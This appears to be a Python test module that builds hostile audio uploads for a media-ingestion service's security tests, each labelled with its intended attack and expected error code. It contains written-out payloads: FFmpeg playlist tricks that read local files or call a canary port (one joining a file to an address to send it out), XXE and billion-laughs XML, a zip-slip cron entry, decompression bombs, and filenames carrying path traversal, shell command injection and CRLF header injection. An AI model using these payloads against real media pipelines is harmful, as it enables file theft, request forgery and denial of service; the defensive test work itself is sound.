"""Files that are made to do harm, and what becomes of each. `attacks` names the hope of whoever
sends it; `answers` are the codes that it may end with, `samples` among them where the harm is only
tried in passing and the sound is real.
"""

from __future__ import annotations

import gzip
import io
import math
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import numpy as np

from tests.conftest import FOX
from tests.hostile import containers as made
from tests.hostile.canary import Canary
from tests.model.media import encode, tone

DECODED = "samples"
BROKEN = ("unreadable_media",)
EMPTY = ("unreadable_media", "no_audio_samples", "no_audio_stream")
CUT = ("truncated_media", *EMPTY)
NAMED = (DECODED, *BROKEN, "invalid_field")  # the latter two: the name has broken its own form


@dataclass(frozen=True)
class Hostile:
    kind: str
    name: str
    attacks: str
    content: bytes
    answers: tuple[str, ...] = BROKEN
    filename: str = "recording.mp3"  # as the form gives it


def corpus(canary: Canary, folder: Path) -> list[Hostile]:
    """`folder`: for the encoder's files."""
    return [
        *playlists(canary),
        *references(canary),
        *polyglots(canary),
        *bombs(),
        *headers(),
        *lengths(),
        *numbers(),
        *crowds(),
        *oddities(),
        *cut(folder),
        *names(canary),
    ]


# --- Files that name other files or addresses


def playlists(canary: Canary) -> Iterator[Hostile]:
    path, name = str(canary.file), canary.file.name
    stream = path.replace(".wav", ".ts")
    at = f"127.0.0.1:{canary.port}"
    hls = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:10\n{}\n#EXT-X-ENDLIST\n"
    for what, attacks, text in (
        ("concat, a neighbour", "reads a file beside it", f"ffconcat version 1.0\nfile {name}\n"),
        ("concat, a path", "reads any file", f"ffconcat version 1.0\nfile '{path}'\n"),
        (
            "concat, a way up",
            "reads another job's upload",
            f"ffconcat version 1.0\nfile ../{canary.folder.name}/{name}\n",
        ),
        (
            "concat, an address",
            "sends a request from inside",
            f"ffconcat version 1.0\nfile 'http://{at}/a.wav'\n",
        ),
        (
            "concat, options",
            "switches the checks off, then reads",
            f"ffconcat version 1.0\nfile '{path}'\noption safe 0\noption protocol_whitelist file\n",
        ),
        ("hls, a path", "reads any file", hls.format(f"#EXTINF:9,\n{stream}")),
        ("hls, file:", "reads any file", hls.format(f"#EXTINF:9,\nfile://{stream}")),
        ("hls, an address", "sends a request", hls.format(f"#EXTINF:9,\nhttp://{at}/a.ts")),
        (
            "hls, a key",
            "sends a request for a key",
            hls.format(f'#EXT-X-KEY:METHOD=AES-128,URI="http://{at}/k"\n#EXTINF:9,\n{stream}'),
        ),
        (
            "hls, a key file",
            "reads a file as a key",
            hls.format(
                '#EXT-X-KEY:METHOD=AES-128,URI="'
                f'{path.replace(".wav", ".key")}"\n#EXTINF:9,\ndata:audio/x,aaaa'
            ),
        ),
        (
            "hls, a map",
            "reads a file as the head of a segment",
            hls.format(f'#EXT-X-MAP:URI="{path}"\n#EXTINF:9,\ndata:audio/x,aaaa'),
        ),
        (
            "hls, concat: and subfile:",
            "joins a local file to an address, to send it out",
            hls.format(f"#EXTINF:9,\nconcat:http://{at}/?|subfile,,start,0,end,64,,:{path}"),
        ),
        (
            "hls, a list of lists",
            "sends a request",
            f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{at}/b.m3u8\n",
        ),
        (
            "hls, itself",
            "reads itself without end",
            "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nrecording.m3u8\n" * 50,
        ),
        (
            "dash, an address",
            "sends a request",
            (
                '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
                'mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="audio/mp4">'
                f'<Representation id="1" bandwidth="1"><BaseURL>http://{at}/a.mp4</BaseURL>'
                "</Representation></AdaptationSet></Period></MPD>"
            ),
        ),
        (
            "dash, an entity",
            "reads a file through XML",
            (
                f'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{path}">]>'
                '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period>&x;</Period></MPD>'
            ),
        ),
        (
            "dash, a billion entities",
            "fills the memory through XML",
            '<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY a "aaaaaaaaaa">'
            + "".join(
                f'<!ENTITY {b} "{f"&{a};" * 10}">'
                for a, b in zip("abcdefgh", "bcdefghi", strict=True)
            )
            + "]><MPD>&i;</MPD>",
        ),
        (
            "sdp, udp",
            "opens a socket and waits",
            (
                "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
                f"m=audio {canary.port} RTP/AVP 0\n"
            ),
        ),
        (
            "rtsp, a session",
            "connects to a server",
            f"rtsp://{at}/a\nv=0\ns=x\na=control:rtsp://{at}/a\n",
        ),
        ("smil", "sends a request", f'<smil><body><audio src="http://{at}/a"/></body></smil>'),
        ("pls", "sends a request", f"[playlist]\nFile1=http://{at}/a.wav\nNumberOfEntries=1\n"),
        ("asx", "sends a request", f'<asx><entry><ref href="http://{at}/a"/></entry></asx>'),
        (
            "xspf",
            "reads any file",
            (
                '<playlist version="1"><trackList><track><location>'
                f"file://{path}</location></track></trackList></playlist>"
            ),
        ),
        ("cue sheet", "reads any file", f'FILE "{path}" WAVE\n TRACK 01 AUDIO\n INDEX 01 0:0:0\n'),
        (
            "imf",
            "reads any file",
            (
                '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/'
                f'2067-3/2016"><Id>urn:uuid:0</Id><Path>{path}</Path></CompositionPlaylist>'
            ),
        ),
        (
            "vobsub",
            "reads the file of the same name",
            (
                "# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\n"
                "timestamp: 00:00:00:000, filepos: 000000000\n"
            ),
        ),
        ("avisynth", "runs a script", f'DirectShowSource("{path}")\n'),
        ("sbagen", "generates sound for years", "-SE\n-T 0:00\na: 200+10/100\nNOW a\n+99:00 a\n"),
        (
            "subtitles with an include",
            "reads any file",
            f"[Script Info]\n!: <{path}>\n[Events]\nDialogue: 0,0:0:0,0:0:9,,{{\\img({path})}}\n",
        ),
        (
            "svg",
            "reads a file through a picture",
            f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{path}"/></svg>',
        ),
        ("ffmetadata", "is taken for a container", ";FFMETADATA1\ntitle=x\n[CHAPTER]\nSTART=0\n"),
    ):
        yield Hostile("playlist", what, attacks, text.encode())


def references(canary: Canary) -> Iterator[Hostile]:
    """The same, in files that are no text: they pass the first look, and reach the decoder."""
    path, name = str(canary.file), canary.file.name
    url = f"http://127.0.0.1:{canary.port}/a.wav"
    quiet = b"\n# \xff\n"
    concat = b"ffconcat version 1.0" + quiet
    for what, attacks, content in (
        ("concat, with a byte that is no text", "reads a file", concat + f"file {name}\n".encode()),
        (
            "concat, with a byte-order mark",
            "reads a file",
            b"\xef\xbb\xbffconcat version 1.0\nfile '" + path.encode() + b"'\n",
        ),
        (
            "concat, in UTF-16",
            "reads a file",
            f"ffconcat version 1.0\nfile '{path}'\n".encode("utf-16"),
        ),
        (
            "hls, with a byte that is no text",
            "reads a file",
            b"#EXTM3U" + quiet + b"#EXTINF:9,\n" + path.replace(".wav", ".ts").encode() + b"\n",
        ),
        (
            "hls, with an address",
            "sends a request",
            b"#EXTM3U" + quiet + b"#EXTINF:9,\n" + url.encode() + b"\n#EXT-X-ENDLIST\n",
        ),
        (
            "sdp, with a byte that is no text",
            "opens a socket",
            b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=\xff\0\nc=IN IP4 127.0.0.1\nt=0 0\n"
            + f"m=audio {canary.port} RTP/AVP 0\n".encode(),
        ),
        ("mov, a reference movie", "sends a request", made.reference_movie(url)),
        ("mov, a reference to a file", "reads any file", made.reference_movie(f"file://{path}")),
        ("rtp dump", "connects back", b"#!rtpplay1.0 127.0.0.1/9\n" + bytes(40)),
        ("real media, redirect", "connects", b".ra\xfd\0\4" + b"rtsp://" + url[7:].encode() * 9),
    ):
        yield Hostile("reference", what, attacks, content, EMPTY)
    for what, attacks, reference in (
        ("mov, an alias", "reads any file", made.alias(path, 0)),
        ("mov, an alias beside it", "reads a file beside it", made.alias(path, 1)),
        ("mov, a data address", "sends a request", made.full(b"url ", url.encode() + b"\0")),
        (
            "mov, a data file",
            "reads any file",
            made.full(b"url ", f"file://{path}\0".encode()),
        ),
        ("mov, a named resource", "reads any file", made.full(b"rsrc", path.encode())),
    ):
        content = made.movie(reference=reference)  # whose own sound may be read
        yield Hostile("reference", what, attacks, content, (DECODED, *CUT))


def polyglots(canary: Canary) -> Iterator[Hostile]:
    fox = FOX.read_bytes()
    playlist = f"#EXTM3U\n#EXTINF:9,\n{canary.file}\n#EXT-X-ENDLIST\n".encode()
    concat = f"ffconcat version 1.0\nfile '{canary.file}'\n".encode()
    page = b"<html><script>alert(1)</script>"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../etc/cron.d/x", "* * * * * root true\n")
    note = made.chunk(b"LIST", b"INFO" + made.chunk(b"ICMT", page + concat))
    sound = made.SECOND
    yield Hostile("polyglot", "wav and web page", "runs in a browser", made.wav(sound, before=note),
                  (DECODED,))  # fmt: skip
    yield Hostile("polyglot", "wav and zip", "is unpacked somewhere", fox + packed.getvalue(),
                  (DECODED,), "recording.zip")  # fmt: skip
    for what, attacks, content, answers in (
        ("wav and playlist", "is followed at its end", fox + playlist, (DECODED,)),
        ("id3 and playlist", "is followed behind a tag", made.id3(bytes(100)) + playlist, EMPTY),
        ("id3 and concat", "is followed behind a tag", made.id3(bytes(100)) + concat, EMPTY),
        (
            "mp4 and concat",
            "is followed inside a box",
            made.box(b"ftyp", b"isom", bytes(4)) + made.box(b"mdat", concat),
            EMPTY,
        ),
        ("pdf and wav", "is taken for a document", b"%PDF-1.7\n%\xff\xff\n" + fox, EMPTY),
        ("gif and wav", "is taken for a picture", b"GIF89a\1\0\1\0\0\0\0;" + fox, EMPTY),
        ("program", "is run", b"\x7fELF\2\1\1" + bytes(9) + b"\2\0>\0" + bytes(500), EMPTY),
        ("gzip of a wav", "is unpacked", gzip.compress(fox, mtime=0), EMPTY),
        ("wav in a wav", "is parsed again and again", nested(200), (DECODED, *CUT)),
    ):
        yield Hostile("polyglot", what, attacks, content, answers)


def nested(depth: int) -> bytes:
    content = made.SECOND
    for _ in range(depth):
        content = made.wav(content)
    return content


# --- Small files that ask for much


@cache
def six_hours() -> bytes:
    return made.silence(6 * 3600, "flac", "flac", 4_000)


@cache
def packed_hours() -> bytes:
    """Two hours in one packed block of a Matroska file."""
    block = zlib.compress(bytes(2 * 3600 * 32_000), 9)
    return made.matroska(track_more=made.zlib_track(), payload=block, duration=7.2e6)


def bombs() -> Iterator[Hostile]:
    hours, claim, stack = "hours of samples", "memory by a claim", "depth of the stack"
    most = 2**31 - 1
    times = struct.pack(">I", 2**20) + struct.pack(">II", most, most) * 2**10
    huge_block = made.element(0x1F43B675, made.element(0xA3, b"\x81", size=2**55))
    attachment = made.element(0x1941A469, made.element(0x61A7, made.element(0x465C, size=most)))
    note = b"LIST\xff\xff\xff\xffINFOICMT\xf0\xff\xff\xff"
    partly = (DECODED, *CUT)
    for what, attacks, content, answers in (
        ("flac, six hours of silence", hours, six_hours(), ("audio_too_long",)),
        ("wav, 1 Hz", "5,000 s of sound in 10 KB", made.wav(bytes(10_000), rate=1), BROKEN),
        ("wav, 8 bit at 4 kHz", hours, made.wav(bytes(4 * 10**6), rate=4_000, bits=8), (DECODED,)),
        ("matroska, packed block", "230 MB of samples in 220 KB", packed_hours(), CUT),
        ("mov, packed header", "256 MB of header in 255 KB", made.packed_movie(2**28), EMPTY),
        ("mov, packed header of 2 GB", claim, short_claim(), EMPTY),
        ("id3, packed frame", "128 MB of text in 128 KB", made.id3_bomb(2**27) + breath(), partly),
        (
            "mov, 2^31 samples by one entry",
            "hours of index",
            made.movie(sizes=struct.pack(">II", 2, most), frames=most),
            partly,
        ),
        ("mov, 2^30 sizes", claim, made.movie(sizes=struct.pack(">II", 0, 2**30)), partly),
        ("mov, 2^20 times of 2^31 samples", claim, made.movie(table=times), partly),
        ("ogg, 2^32 comments", claim, made.ogg_comments(2**32 - 1), EMPTY),
        (
            "flac, a picture of 16 MB",
            claim,
            made.flac_head(more=b"\x86\xff\xff\xff" + bytes(100)),
            EMPTY,
        ),
        ("wav, a note of 4 GB", claim, made.wav(before=note), partly),
        ("matroska, a block of 2^55 bytes", claim, made.matroska(segment_more=huge_block), partly),
        ("matroska, an attachment of 2 GB", claim, made.matroska(segment_more=attachment), partly),
        ("mov, boxes in boxes", stack, boxes(5_000), EMPTY),
        ("matroska, elements in elements", stack, elements(2_000), partly),
    ):
        yield Hostile("bomb", what, attacks, content, answers)


def short_claim() -> bytes:
    header = made.box(b"dcom", b"zlib") + made.box(
        b"cmvd", struct.pack(">I", 2**31 - 1), zlib.compress(bytes(100))
    )
    return made.box(b"ftyp", b"qt  ", bytes(4)) + made.box(b"moov", made.box(b"cmov", header))


@cache
def breath() -> bytes:
    return made.silence(2, "flac", "flac", 16_000)


def boxes(depth: int) -> bytes:
    inner = b""
    for kind in (b"moov", b"trak", b"mdia", b"minf", b"stbl", b"udta") * (depth // 6):
        inner = made.box(kind, inner)
    return made.box(b"ftyp", b"isom", bytes(4)) + inner


def elements(depth: int) -> bytes:
    inner = b""
    for _ in range(depth):
        inner = made.element(0x1254C367, made.element(0x7373, made.element(0x67C8, inner)))
    return made.matroska(segment_more=inner)[:200_000]


# --- Claims that no recording makes


def headers() -> Iterator[Hostile]:
    infinite = bytes.fromhex("7fff8000000000000000")
    for what, content, answers in (
        ("wav, 0 Hz", made.wav(rate=0), EMPTY),
        ("wav, 2^31 - 1 Hz", made.wav(rate=2**31 - 1), EMPTY),
        ("wav, 2^32 - 1 Hz", made.wav(rate=2**32 - 1), EMPTY),
        ("wav, 0 channels", made.wav(channels=0, align=0), EMPTY),
        ("wav, 255 channels", made.wav(channels=255), EMPTY),
        ("wav, 65,535 channels", made.wav(channels=65_535), EMPTY),
        ("wav, 0 bits", made.wav(bits=0, align=0), EMPTY),
        ("wav, 65,535 bits", made.wav(bits=65_535), EMPTY),
        ("wav, blocks of 0 bytes", made.wav(align=0), (DECODED, *CUT)),
        ("wav, an unknown codec", made.wav(tag=0x7777), EMPTY),
        ("wav, a video codec", made.wav(tag=0x3134), EMPTY),
        ("rf64, 2^63 bytes", made.rf64(made.SECOND, 2**63), (DECODED, *CUT)),
        ("w64, 2^63 bytes", made.w64(made.SECOND, 2**63), (DECODED, *CUT)),
        ("aiff, 32,767 channels", made.aiff(channels=32_767), EMPTY),
        ("aiff, -1 channels", made.aiff(channels=-1), EMPTY),
        ("aiff, an infinite rate", made.aiff(rate=infinite), EMPTY),
        ("au, 2^31 channels", made.au(channels=2**31), EMPTY),
        ("au, 2^32 - 1 Hz", made.au(rate=2**32 - 1), EMPTY),
        ("caf, 2^31 channels", made.caf(channels=2**31), EMPTY),
        ("caf, a rate that is no number", made.caf(rate=math.nan), EMPTY),
        ("caf, an infinite rate", made.caf(rate=math.inf), EMPTY),
        ("caf, a rate of 1e308", made.caf(rate=1e308), EMPTY),
        ("caf, a rate below zero", made.caf(rate=-16_000), EMPTY),
        ("caf, packets of 4 GB", made.caf(packet=2**32 - 1), (DECODED, *CUT)),
        ("flac, 0 Hz", made.flac_head(rate=0), EMPTY),
        ("flac, 2^36 samples", made.flac_head(total=2**36 - 1), (*CUT, "audio_too_long")),
        ("matroska, a rate that is no number", made.matroska(rate=math.nan), (DECODED, *EMPTY)),
        ("matroska, an infinite rate", made.matroska(rate=math.inf), (DECODED, *EMPTY)),
        ("matroska, 2^40 channels", made.matroska(channels=2**40), EMPTY),
        ("mov, 65,535 channels", made.movie(channels=65_535), (DECODED, *CUT)),
    ):
        yield Hostile("header", what, "sizes and rates by a claim", content, answers)


def lengths() -> Iterator[Hostile]:
    for what, content, answers in (
        ("wav, no samples", made.wav(b""), EMPTY),
        ("wav, one byte", made.wav(b"\x7f"), EMPTY),
        ("aiff, 2^32 - 1 frames", made.aiff(frames=2**32 - 1), (DECODED, *CUT)),
        ("mov, a time scale of 0", made.movie(timescale=0), (DECODED, *CUT)),
        ("mov, a time scale of 2^32 - 1", made.movie(timescale=2**32 - 1), (DECODED, *CUT)),
        ("mov, no length", made.movie(duration=0), (DECODED, *CUT)),
        ("mov, 2^32 - 1 long", made.movie(duration=2**32 - 1), (DECODED, *CUT)),
        ("mov, starts below zero", made.movie(edits=made.edit_list((2**31, -(2**31)))),
         (DECODED, *CUT)),
        ("mov, 2,000 empty edits", made.movie(edits=made.edit_list(*[(2**30, -1)] * 2_000)),
         (DECODED, *CUT)),
        ("mov, times that go back", made.movie(table=struct.pack(">III", 1, 16_000, 2**32 - 1)),
         (DECODED, *CUT)),
        ("matroska, no length", made.matroska(duration=0.0), (DECODED, *CUT)),
        ("matroska, below zero", made.matroska(duration=-1e9), (DECODED, *CUT)),
        ("matroska, infinite", made.matroska(duration=math.inf), (DECODED, *CUT)),
        ("matroska, no number", made.matroska(duration=math.nan), (DECODED, *CUT)),
        ("matroska, 1e308", made.matroska(duration=1e308), (DECODED, *CUT)),
        ("matroska, a time scale of 2^63", made.matroska(scale=2**63), (DECODED, *CUT)),
    ):  # fmt: skip
        yield Hostile("length", what, "time and memory by a claim", content, answers)


def numbers() -> Iterator[Hostile]:
    for what, value in (
        ("not a number", np.nan), ("infinite", np.inf), ("1e30", 1e30), ("denormal", 1e-40),
    ):  # fmt: skip
        content = made.wav(np.full(16_000, value, np.float32).tobytes(), tag=3, bits=32)
        yield Hostile("samples", f"wav, 32-bit floats: {what}", "poisons the model", content,
                      (DECODED,))  # fmt: skip
    doubles = np.tile([np.nan, -np.inf, np.inf, 1e300], 4_000)
    content = made.wav(doubles.tobytes(), tag=3, bits=64)
    yield Hostile("samples", "wav, 64-bit floats: all of them", "poisons the model", content,
                  (DECODED,))  # fmt: skip


def crowds() -> Iterator[Hostile]:
    for what, content, answers in (
        ("matroska, 60 streams", made.matroska(tracks=60), (DECODED,)),
        ("matroska, 5,000 streams", made.matroska(tracks=5_000), (DECODED, *CUT)),
        ("mov, 3,000 streams", made.movie(tracks=3_000), (DECODED, *CUT)),
        ("avi, 2,000 streams", made.avi(2_000), (DECODED, *CUT)),
        ("ogg, 2,000 streams", made.ogg(2_000), EMPTY),
        ("mpeg-ts, 1,200 streams", made.transport(40, 30), EMPTY),
    ):
        yield Hostile("crowd", what, "memory by streams", content, answers)


def oddities() -> Iterator[Hostile]:
    generator = np.random.default_rng(5)
    for what, content in (
        ("zeros", bytes(100_000)),
        ("noise", generator.bytes(100_000)),
        ("one byte", b"\xff"),
        ("mpeg sync words", b"\xff\xfb\x90\x00" * 20_000),
        ("aac sync words", b"\xff\xf1\x50\x80\x00\x1f\xfc" * 10_000),
        ("ac3 sync words", b"\x0b\x77" * 40_000),
        ("amr of unknown frames", b"#!AMR\n" + b"\xff" * 50_000),
        ("asf that ends", bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c") + bytes(5_000)),
        ("mpeg-ts sync bytes", (b"\x47" + bytes(187)) * 500),
        ("ogg without pages", b"OggS" * 20_000),
    ):
        yield Hostile("oddity", what, "damage", content, (DECODED, *CUT))


# --- Truncated, at every sixteenth


def cut(folder: Path) -> Iterator[Hostile]:
    for suffix in ("wav", "flac", "mp3", "m4a", "ogg", "webm"):
        whole = encode(folder / f"whole.{suffix}", tone(4)).read_bytes()
        for part in range(1, 16):
            content = whole[: len(whole) * part // 16]
            yield Hostile("truncated", f"{suffix}, {part}/16", "damage", content, (DECODED, *CUT))


# --- Names


def names(canary: Canary) -> Iterator[Hostile]:
    fox = FOX.read_bytes()
    for what, filename in (
        ("a way up", "../../../../etc/cron.d/x"),
        ("a way up, Windows", "..\\..\\..\\windows\\system32\\x.dll"),
        ("a way up, encoded", "..%2f..%2f..%2fetc%2fpasswd"),
        ("a path", "/etc/passwd"),
        ("a device", "/dev/stdin"),
        ("a protocol", f"http://127.0.0.1:{canary.port}/a.wav"),
        ("a protocol of FFmpeg", f"concat:{canary.file}"),
        ("part of a file", f"subfile,,start,0,end,0,,:{canary.file}"),
        ("a pattern of images", str(canary.folder / "canary%03d.wav")),
        ("an option", "-i.wav"),
        ("a command", "$(touch pwned);`touch pwned`|touch pwned.wav"),
        ("a NUL", "a.wav\0.mp3"),
        ("line ends", "a.wav\r\nX-Injected: 1\r\n\r\nb"),
        ("control characters", "\x1b[2J\x07\x08\x7f.wav"),
        ("right to left", "song\u202egpj.wav\u2066"),
        ("bytes that are no UTF-8", "\udcff\udcfe.wav"),
        ("4,000 characters", "a" * 4_000 + ".wav"),
        ("nothing", ""),
        ("a dot", "."),
        ("quotes", 'a"; name="language"; x="'),
    ):
        yield Hostile("name", what, "the name on a path, in a log", fox, NAMED, filename)
